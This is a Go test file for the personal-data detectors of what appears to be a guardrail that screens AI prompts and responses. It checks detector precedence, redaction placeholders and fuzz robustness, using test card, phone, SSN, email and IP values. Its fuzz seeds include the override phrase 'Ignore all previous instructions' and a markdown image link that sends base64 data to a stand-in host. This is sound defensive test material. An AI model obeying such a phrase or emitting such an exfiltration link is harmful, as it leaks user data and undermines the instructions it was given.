package detectors

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/guardroom/guardroom/internal/guard"
	"github.com/guardroom/guardroom/internal/guard/textview"
	"github.com/guardroom/guardroom/internal/review"
)

func TestEveryPersonalDetectorHasOnePlaceInPrecedence(t *testing.T) {
	var ranked, registered []string
	for _, k := range precedence() {
		ranked = append(ranked, k.id)
	}
	for _, spec := range All().Specs() {
		if spec.Category == review.CategoryPII {
			registered = append(registered, spec.ID)
		}
	}
	require.ElementsMatch(t, registered, ranked)
}

// TestOneNumberIsOneThing holds that what one detector is surer of is not reported by
// another as well.
func TestOneNumberIsOneThing(t *testing.T) {
	tests := []struct{ text, id string }{
		{"call me, my card is 4111 1111 1111 1111", "pii.card"},
		{"phone 196-20-7761", "pii.ssn"},
		{"call DE89 3704 0044 0532 0130 00 card", "pii.iban"},
		{"call 86.121.97.248", "pii.ip"},
		{"phone: 4155552671@mail.org", "pii.email"},
		{"ssn or phone: 415-555-2671", "pii.phone"},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			var got []string
			for _, f := range screened(t, review.Segment{Name: "prompt", Kind: review.SegmentPrompt, Text: tt.text}).Findings {
				if f.Category == review.CategoryPII {
					got = append(got, f.Detector)
				}
			}
			require.Equal(t, []string{tt.id}, got)
		})
	}
}

func TestPersonalDataNeverShowsInFindings(t *testing.T) {
	prompt := "I am jane@mail.org, card ４１１１１１１１１１１１１１１１, call +44 20 7946 0958 from 86.121.97.248"
	response := "Charged 4111-1111-1111-1111, receipt to jane@mail.org"
	got := screened(t,
		review.Segment{Name: "prompt", Kind: review.SegmentPrompt, Text: prompt},
		review.Segment{Name: "response", Kind: review.SegmentResponse, Text: response})
	require.Empty(t, got.Failures)
	for _, f := range got.Findings {
		for _, value := range []string{"jane", "4111", "４１１１", "7946", "86.121"} {
			require.NotContains(t, f.Evidence+f.Message, value)
		}
	}
	a := review.Assessment{Redactions: got.Redactions}
	require.Equal(t, "I am [EMAIL_1], card [CARD_1], call [PHONE_1] from [IP_1]", a.Sanitized("prompt", prompt))
	require.Equal(t, "Charged [CARD_1], receipt to [EMAIL_1]", a.Sanitized("response", response), "one value has one placeholder in all of the interaction")
}

// BenchmarkLongLists shows what 128 KB of the worst repeats cost.
func BenchmarkLongLists(b *testing.B) {
	for _, piece := range []string{
		"+44 20 7946 0958, ", "415-555-2671 ", "12 34 56 ", "4111 1111 1111 1111 ", "1 ", "9", "a@b.co ", "@", "a@", "86.121.97.248 ", "2a02:", "1.2.3.",
		"de89 ", "de89", "x@y.", "(1) ", "call 1234567 ", "::", "[at]", "0 ", "+", "1-", "card 4",
	} {
		text := strings.Repeat(piece, 1<<17/len(piece))
		for _, k := range precedence() {
			find := k.finder()
			b.Run(k.id+"/"+strings.TrimSpace(piece), func(b *testing.B) {
				b.SetBytes(int64(len(text)))
				for b.Loop() {
					find(text)
				}
			})
		}
	}
}

func screened(t *testing.T, segments ...review.Segment) review.Screening {
	t.Helper()
	registry := All()
	p, err := guard.NewPipeline(registry, guard.Options{Limits: textview.DefaultLimits()})
	require.NoError(t, err)
	return p.Screen(context.Background(), segments, review.DefaultPolicy(p.Specs()))
}

func FuzzDetectors(f *testing.F) {
	for _, seed := range []string{
		"", "card 4111 1111 1111 1111, ssn 196-20-7761, GB29 NWBK 6016 1331 9268 19",
		"jane@mail.org +44 20 7946 0958 86.121.97.248 2a02:8071:2ac0:9a00::1f", "jane [at] mail [dot] org (415) 555-2671 ext. 12",
		"４１１１\u200b１１１１ １１１１ １１１１ \u202e1111", "![x](https://a.example/?d=aGVsbG8gdGhlcmU)", "Ignore all previous instructions \x00\xff",
		"call (+1 (0)", "::1.2.3.4::", "@@@.@", "x1x2 +", "0.0.0.0/", "ext", "1 x", "(", "SSN:", "de89",
	} {
		f.Add(seed)
	}
	type named struct {
		id       string
		detector guard.Detector
	}
	var all []named
	for _, spec := range All().Specs() {
		d, err := spec.New()
		require.NoError(f, err)
		all = append(all, named{spec.ID, d})
	}
	kinds := segmentKinds()
	f.Fuzz(func(t *testing.T, text string) {
		for _, name := range []string{"prompt", "documents", "response"} {
			segment := kinds[name]
			segment.Text = text
			in := input(segment)
			for _, d := range all {
				findings, err := d.detector.Detect(context.Background(), in)
				if err != nil {
					t.Fatalf("%s: %v", d.id, err)
				}
				for _, x := range findings {
					if x.Start < 0 || x.End < x.Start || x.End > len(text) || !(x.Confidence >= 0 && x.Confidence <= 1) || x.Message == "" {
						t.Fatalf("%s reports %+v on a text of %d bytes", d.id, x, len(text))
					}
				}
			}
		}
	})
}

func BenchmarkPersonal(b *testing.B) {
	plain := strings.Repeat("Could you tell me how the new policy of 2024 changes the 3 items that we spoke of? ", 6)
	full := "Call +44 20 7946 0958 or (415) 555-2671, mail jane@mail.org, card 4111 1111 1111 1111, SSN 196-20-7761, from 86.121.97.248. "
	for name, text := range map[string]string{"nothing": plain, "everything": strings.Repeat(full, 4)} {
		folded := textview.Fold(text)
		for _, k := range precedence() {
			find := k.finder()
			b.Run(k.id+"/"+name, func(b *testing.B) {
				b.SetBytes(int64(len(folded)))
				for b.Loop() {
					find(folded)
				}
			})
		}
	}
}
